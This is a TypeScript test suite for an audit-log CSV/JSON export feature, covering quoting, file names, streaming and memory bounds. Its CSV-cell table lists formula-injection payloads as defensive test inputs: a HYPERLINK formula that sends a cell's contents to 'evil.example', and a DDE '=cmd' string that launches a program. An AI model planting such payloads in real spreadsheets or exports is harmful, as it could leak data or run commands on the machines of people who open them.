import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { describe, expect, it } from 'vitest';
import {
  auditExport,
  auditItem,
  csvCell,
  exportContentType,
  exportFileName,
  type ExportFormat,
} from '../../shared/domain/workspaces/auditExport.ts';
import type { AuditRow } from '../../shared/domain/workspaces/model.ts';
import { workspaceLimits } from '../../shared/limits.ts';

const at = Date.UTC(2026, 0, 2, 3, 4, 5, 678);

const row = (n: number, overrides: Partial<AuditRow> = {}): AuditRow => ({
  id: `aud_${String(n).padStart(6, '0')}`,
  workspaceId: 'ws_1',
  at: at - n * 1000,
  actor: { userId: 'usr_ana', email: 'ana@example.com', via: 'session' },
  action: 'member.invited',
  target: `inv_${n}`,
  details: { email: 'bo@example.com', role: 'member' },
  ...overrides,
});

async function* pagesOf(...pages: AuditRow[][]): AsyncGenerator<AuditRow[]> {
  for (const page of pages) yield page;
}

async function chunksOf(format: ExportFormat, pages: AsyncIterable<AuditRow[]>): Promise<string[]> {
  const chunks: string[] = [];
  for await (const chunk of auditExport(format, pages)) chunks.push(chunk);
  return chunks;
}

/**
 * RFC 4180, read strictly: CRLF ends every record (the last included), quoted fields may hold
 * commas, CR, LF and doubled quotes, and a quote anywhere else is an error.
 */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let fields: string[] = [];
  let i = 0;
  for (;;) {
    let field = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            field += '"';
            i += 2;
            continue;
          }
          i++;
          break;
        }
        field += text[i++];
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r' && text[i] !== '\n') {
        if (text[i] === '"') throw new Error(`a quote inside an unquoted field at ${i}`);
        field += text[i++];
      }
    }
    fields.push(field);
    if (text[i] === ',') {
      i++;
      continue;
    }
    if (text.slice(i, i + 2) !== '\r\n') throw new Error(`a record not ended by CRLF at ${i}`);
    i += 2;
    records.push(fields);
    fields = [];
    if (i === text.length) return records;
  }
}

const header = ['id', 'at', 'actor_user_id', 'actor_email', 'via', 'action', 'target', 'details'];
const bom = '\uFEFF';

/** The CSV's records without the byte order mark, which must come first. */
const csvRecords = (text: string) => {
  expect(text.startsWith(bom)).toBe(true);
  return parseCsv(text.slice(1));
};

describe('exportContentType and exportFileName', () => {
  it('labels CSV as UTF-8 with a header row, and JSON as JSON', () => {
    expect(exportContentType('csv')).toBe('text/csv; charset=utf-8; header=present');
    expect(exportContentType('json')).toBe('application/json');
  });

  it('names the file after the workspace and the UTC time, in characters safe in a quoted filename', () => {
    expect(exportFileName('acme-security', 'csv', at)).toBe('hushlink-audit-acme-security-20260102T030405Z.csv');
    expect(exportFileName('acme', 'json', 0)).toBe('hushlink-audit-acme-19700101T000000Z.json');
    expect(exportFileName('Ac"me\r\n; x', 'csv', 0)).toBe('hushlink-audit-ac-me-x-19700101T000000Z.csv');
    expect(exportFileName('a'.repeat(100), 'csv', 0)).toBe(`hushlink-audit-${'a'.repeat(40)}-19700101T000000Z.csv`);
  });
});

describe('CSV cells', () => {
  // [what is stored, the cell as written]
  const table: [string, string][] = [
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\tx', "'\tx"],
    ['\rx', `"'\rx"`],
    ['\u0000x', "'\u0000x"],
    ['=HYPERLINK("https://evil.example/?"&A1,"click")', `"'=HYPERLINK(""https://evil.example/?""&A1,""click"")"`],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['  =1+1', "'  =1+1"],
    ['\n=1+1', `"'\n=1+1"`],
    ['\u3000=1+1', "'\u3000=1+1"],
    ['\u00a0@x', "'\u00a0@x"],
    ['＝1+1', "'＝1+1"],
    ['＋1', "'＋1"],
    ['－1', "'－1"],
    ['＠x', "'＠x"],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['"', '""""'],
    ['line\nbreak', '"line\nbreak"'],
    ['line\r\nbreak', '"line\r\nbreak"'],
    ['a=1', 'a=1'],
    ['x-y@z', 'x-y@z'],
    ["'already", "'already"],
    ['héllo – 秘密 🔐', 'héllo – 秘密 🔐'],
    ['', ''],
    ['member.role_changed', 'member.role_changed'],
  ];

  it.each(table)('%j is written %j', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  it('writes null as an empty field', () => {
    expect(csvCell(null)).toBe('');
  });

  it('every escaped value reads back from the file as the value behind its one quote', async () => {
    const rows = table.map(([value], n) => row(n, { target: value, action: value, actor: { userId: value, email: value, via: 'scim' } }));
    const [, ...records] = csvRecords((await chunksOf('csv', pagesOf(rows))).join(''));
    expect(records).toHaveLength(table.length);
    records.forEach((record, n) => {
      const expected = csvCellText(table[n]![1]);
      expect([record[2], record[3], record[5], record[6]]).toEqual([expected, expected, expected, expected]);
    });
  });
});

/** The text a field holds once RFC 4180's quoting is undone. */
const csvCellText = (cell: string) => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell);

describe('auditExport as CSV', () => {
  it('writes a header and a CRLF-ended record a row, in the API’s order of fields, details as compact JSON', async () => {
    const rows = [
      row(1),
      row(2, {
        actor: { userId: null, email: null, via: 'system' },
        action: 'seats.changed',
        target: 'ws_1',
        details: { seats: 5, previous: 1, by_billing: true, note: null, domains: ['a.example', 'b.example'] },
      }),
    ];
    const text = (await chunksOf('csv', pagesOf(rows))).join('');
    expect(text).toBe(
      `${bom}id,at,actor_user_id,actor_email,via,action,target,details\r\n` +
        `aud_000001,2026-01-02T03:04:04.678Z,usr_ana,ana@example.com,session,member.invited,inv_1,"{""email"":""bo@example.com"",""role"":""member""}"\r\n` +
        `aud_000002,2026-01-02T03:04:03.678Z,,,system,seats.changed,ws_1,"{""seats"":5,""previous"":1,""by_billing"":true,""note"":null,""domains"":[""a.example"",""b.example""]}"\r\n`,
    );
    const [head, ...records] = csvRecords(text);
    expect(head).toEqual(header);
    expect(records.map((record) => JSON.parse(record[7]!))).toEqual(rows.map((r) => r.details));
  });

  it('writes `;` inside details as \\u003b, so a spreadsheet splitting on `;` finds no cell starting with a formula', async () => {
    const details = { display_name: 'R&D;=1+1;', note: 'a;@b' };
    const text = (await chunksOf('csv', pagesOf([row(1, { details })]))).join('');
    const [, record] = csvRecords(text);
    expect(record![7]).toBe('{"display_name":"R&D\\u003b=1+1\\u003b","note":"a\\u003b@b"}');
    expect(JSON.parse(record![7]!)).toEqual(details);
    expect(text).not.toContain(';');
  });

  it('details of every kind of value read back exactly, whatever they hold', async () => {
    const details = {
      quote: 'say "hi"',
      comma: 'a,b',
      lines: 'a\r\nb\nc',
      formula: '=1+1',
      unicode: 'héllo 秘密 🔐 \u2028',
      lone: '\ud800',
      list: ['=x', '-y'],
      n: -1.5,
      t: false,
      z: null,
    };
    const [, record] = csvRecords((await chunksOf('csv', pagesOf([row(1, { details })]))).join(''));
    const parsed = JSON.parse(record![7]!);
    expect(parsed).toEqual(details);
    // JSON writes the line breaks escaped, so the record stays on one line of the file.
    expect(record![7]).not.toMatch(/[\r\n]/);
  });

  it('an empty trail is the header alone', async () => {
    const chunks = await chunksOf('csv', pagesOf());
    expect(chunks).toEqual([`${bom}${header.join(',')}\r\n`]);
    expect(csvRecords(chunks.join(''))).toEqual([header]);
    expect(await chunksOf('csv', pagesOf([], []))).toEqual(chunks);
  });
});

describe('auditExport as JSON', () => {
  it('writes {"items": […]} with each row in the API’s shape', async () => {
    const rows = [row(1), row(2, { actor: { userId: null, email: null, via: 'system' }, details: {} })];
    const parsed = JSON.parse((await chunksOf('json', pagesOf(rows))).join(''));
    expect(parsed).toEqual({
      items: [
        {
          id: 'aud_000001',
          at: '2026-01-02T03:04:04.678Z',
          actor: { user_id: 'usr_ana', email: 'ana@example.com', via: 'session' },
          action: 'member.invited',
          target: 'inv_1',
          details: { email: 'bo@example.com', role: 'member' },
        },
        {
          id: 'aud_000002',
          at: '2026-01-02T03:04:03.678Z',
          actor: { user_id: null, email: null, via: 'system' },
          action: 'member.invited',
          target: 'inv_2',
          details: {},
        },
      ],
    });
    expect(parsed.items).toEqual(rows.map(auditItem));
  });

  it('an empty trail is {"items":[]}', async () => {
    for (const pages of [pagesOf(), pagesOf([]), pagesOf([], [])]) {
      const text = (await chunksOf('json', pages)).join('');
      expect(JSON.parse(text)).toEqual({ items: [] });
    }
  });

  it('stays one valid document across pages of every size, with a row a line', async () => {
    const pages = [[row(1)], [], [row(2), row(3)], [row(4)], []];
    const text = (await chunksOf('json', pagesOf(...pages))).join('');
    expect(JSON.parse(text).items.map((item: { id: string }) => item.id)).toEqual(['aud_000001', 'aud_000002', 'aud_000003', 'aud_000004']);
    expect(text.split('\n')).toHaveLength(1 + 4 + 2);
    expect(text.endsWith(']}\n')).toBe(true);
  });
});

describe('streaming', () => {
  it.each(['csv', 'json'] as const)('%s: one chunk per non-empty page, the header or opening first, the closing last', async (format) => {
    const pages = [[row(1), row(2)], [row(3)], [], [row(4), row(5), row(6)]];
    const chunks = await chunksOf(format, pagesOf(...pages));
    expect(chunks).toHaveLength(1 + 3 + (format === 'json' ? 1 : 0));
    const pageChunks = chunks.slice(1, 4);
    expect(pageChunks.map((chunk) => (chunk.match(/aud_\d+/g) ?? []).length)).toEqual([2, 1, 3]);
    if (format === 'csv')
      expect(pageChunks.map((chunk) => parseCsv(chunk).map((record) => record[0]))).toEqual([
        ['aud_000001', 'aud_000002'],
        ['aud_000003'],
        ['aud_000004', 'aud_000005', 'aud_000006'],
      ]);
  });

  it.each(['csv', 'json'] as const)('%s: asks for a page only once the chunk before it is taken', async (format) => {
    let produced = 0;
    async function* lazyPages(): AsyncGenerator<AuditRow[]> {
      for (let page = 0; page < 5; page++) {
        produced++;
        yield [row(page * 2), row(page * 2 + 1)];
      }
    }
    const export_ = auditExport(format, lazyPages());
    await export_.next();
    expect(produced).toBe(0);
    for (let taken = 1; taken <= 5; taken++) {
      await export_.next();
      expect(produced).toBe(taken);
    }
  });
});

/** `gc()` where this worker's V8 allows turning it on; null otherwise. */
function exposeGc(): (() => void) | null {
  try {
    setFlagsFromString('--expose-gc');
    return runInNewContext('gc') as () => void;
  } catch {
    return null;
  }
}

describe('a 10,000-row trail in pages of 500', () => {
  const pageSize = workspaceLimits.auditExportPageSize;
  const pageCount = 10_000 / pageSize;
  // About 1.3 KB a row: 13 MB written in all, a thousand times what one row holds.
  const note = 'x'.repeat(1200);

  /** Pages made as they are asked for, each of fresh rows (as a store's query would give). */
  async function* trail(): AsyncGenerator<AuditRow[]> {
    for (let page = 0; page < pageCount; page++) {
      yield Array.from({ length: pageSize }, (_, i) => row(page * pageSize + i, { details: { note: `${note}${page}-${i}`, n: i } }));
    }
  }

  it.each(['csv', 'json'] as const)('%s: no chunk holds more than a page, and the heap does not grow with the trail', async (format) => {
    const gc = exposeGc();
    gc?.();
    const baseline = process.memoryUsage().heapUsed;
    let peak = 0;
    let total = 0;
    let largest = 0;
    let chunks = 0;
    let rows = 0;
    for await (const chunk of auditExport(format, trail())) {
      chunks++;
      total += chunk.length;
      largest = Math.max(largest, chunk.length);
      rows += (chunk.match(/aud_\d{6}/g) ?? []).length;
      gc?.();
      peak = Math.max(peak, process.memoryUsage().heapUsed - baseline);
    }
    expect(rows).toBe(10_000);
    expect(chunks).toBe(1 + pageCount + (format === 'json' ? 1 : 0));
    expect(total).toBeGreaterThan(12_000_000);
    // A page's worth of rows (500 × ~1.4 KB), never more.
    expect(largest).toBeLessThan(pageSize * 1500);
    expect(largest).toBeLessThan(total / (pageCount - 1));
    // With gc() the live heap after each chunk is about one page and its chunk; the whole
    // trail (13 MB of text) held at once would be far over. Without it, garbage not yet
    // collected counts too: a loose bound.
    expect(peak).toBeLessThan(gc ? 6_000_000 : 64_000_000);
    console.info(
      `${format}: ${chunks} chunks, ${total} characters in all, largest ${largest}, heap peak +${Math.round(peak / 1024)} KiB${gc ? ' (after gc)' : ' (no gc)'}`,
    );
  });
});
